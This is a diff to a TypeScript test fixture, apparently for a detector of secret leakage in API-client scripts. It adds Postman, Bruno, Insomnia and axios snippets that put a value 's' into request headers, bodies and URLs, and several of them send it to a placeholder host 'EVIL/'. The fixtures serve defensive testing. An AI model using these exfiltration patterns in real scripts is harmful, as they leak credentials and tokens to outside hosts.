@@ -31,6 +31,25 @@ const texts: Readonly<Record<string, string>> = {
   'pm.sendRequest with a URL of parts':
     'await pm.sendRequest({ url: { raw: "EVIL/", query: [] }, method: "POST", header: [{ key: "X-A", value: s }] })',
   'pm.sendRequest with auth': 'await pm.sendRequest({ url: "EVIL/", auth: { type: "bearer", bearer: { token: s } } })',
+  'pm.request.headers = a list': 'pm.request.headers = [{ key: "X-A", value: s }]',
+  'pm.request.headers.add, a line': 'pm.request.headers.add("X-A: " + s)',
+  'pm.request.body =': 'pm.request.body = s',
+  'pm.request.body = an object': 'pm.request.body = { mode: "raw", raw: s }',
+  'pm.request.body.update with GraphQL': 'pm.request.body.update({ mode: "graphql", graphql: { query: s, variables: { s } } })',
+  'pm.request.body.update with parts of a form': 'pm.request.body.update({ mode: "formdata", formdata: [{ key: s, value: s }] })',
+  'pm.request.body.urlencoded =':
+    'pm.request.headers.upsert({ key: "Content-Type", value: "application/x-www-form-urlencoded" }); pm.request.body.urlencoded = [{ key: s, value: s }]',
+  'pm.request.url = an object': 'pm.request.url = { raw: "EVIL/?s=" + s }',
+  'pm.request.url.query =': 'pm.request.url.query = [{ key: s, value: s }]',
+  'pm.request.url.path =': 'pm.request.url.path = [s, "b"]',
+  'pm.sendRequest with pm.request':
+    'pm.request.headers.add({ key: "X-A", value: s }); pm.request.body = s; pm.request.url += "&s=" + s; await pm.sendRequest(pm.request)',
+  'pm.sendRequest with the headers and the body of pm.request':
+    'pm.request.headers.add("X-A: " + s); pm.request.body.update({ mode: "raw", raw: { s } }); await pm.sendRequest({ url: "EVIL/", method: "PUT", header: pm.request.headers, body: pm.request.body })',
+  'axios with the fields of a form':
+    'await axios.post("EVIL/", { [s]: s, list: [s] }, { headers: { "Content-Type": "application/x-www-form-urlencoded" } })',
+  'bru.sendRequest with the fields of a form':
+    'await bru.sendRequest({ url: "EVIL/", method: "POST", data: { [s]: s }, headers: { "Content-Type": "application/x-www-form-urlencoded" } })',
   'insomnia.request.body.update': 'insomnia.request.body.update({ mode: "raw", raw: s })',
   'insomnia.sendRequest':
     'await insomnia.sendRequest({ url: "EVIL/?s=" + s, method: "POST", header: { "X-A": s }, body: { mode: "raw", raw: s } })',
@@ -56,6 +75,12 @@ const names: Readonly<Record<string, string>> = {
   'pm.request.headers.add, a name': 'pm.request.headers.add({ key: s, value: "1" })',
   'pm.request.headers.upsert, a name': 'pm.request.headers.upsert({ key: s, value: "1" })',
   'pm.request.method =': 'pm.request.method = s',
+  'pm.request.headers.add, the name of a line': 'pm.request.headers.add(s + ": 1")',
+  'pm.request.url.host =': 'pm.request.url.host = [s]',
+  'pm.request.url.protocol =': 'pm.request.url.protocol = s',
+  'pm.request.url.port =': 'pm.request.url.port = s',
+  'pm.sendRequest with pm.request':
+    'pm.request.headers.upsert({ key: s, value: s }); pm.request.method = "POST"; await pm.sendRequest(pm.request)',
   'req.headerList.upsert, a name': 'req.headerList.upsert({ key: s, value: "1" })',
   'req.setHeader, a name': 'req.setHeader(s, "1")',
   'req.setHeaders, a name': 'req.setHeaders({ [s]: "1" })',
